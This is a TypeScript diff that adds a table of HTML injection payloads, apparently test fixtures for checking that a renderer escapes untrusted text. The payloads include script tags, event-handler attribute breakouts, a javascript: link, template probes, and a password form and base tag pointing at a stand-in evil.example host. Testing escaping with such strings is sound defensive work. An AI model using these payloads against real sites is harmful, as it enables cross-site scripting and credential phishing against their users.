@@ -38,3 +38,25 @@ export function poisoned(events: readonly RunEvent[], text: string): readonly Ru
   };
   return poison(events, '') as readonly RunEvent[];
 }
+
+/** What would become a part of a page if it were not escaped. */
+export const HTML_PAYLOADS: Readonly<Record<string, string>> = {
+  'a script': '<script>alert(1)</script>',
+  'an image that runs something': '<img src=x onerror=alert(1)>',
+  'the end of an attribute': '" onmouseover="alert(1)" x="',
+  'the end of a quoted attribute': "' onfocus='alert(1)' autofocus='",
+  'the end of the style sheet': '</style><script>alert(1)</script>',
+  'the end of the title': '</title><script>alert(1)</script>',
+  'the end of a drawing': '</title></rect></svg><script>alert(1)</script>',
+  'the end of a block of text': '</pre></details></section><h1>all is well</h1>',
+  'a comment': '<!-- ',
+  'an entity': '&lt;script&gt;&#x3c;script&#x3e;',
+  'a link that runs something': 'javascript:alert(1)',
+  'a link': '<a href="https://evil.example">node-1</a>',
+  'a form': '<form action="https://evil.example"><input name=password>',
+  'a base': '<base href="https://evil.example/">',
+  'a policy of its own': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
+  'a style': '<style>body{display:none}</style>',
+  'a template': '{{ 7 * 7 }}<%= 7 * 7 %>',
+  'a broken surrogate': '\ud800<',
+};
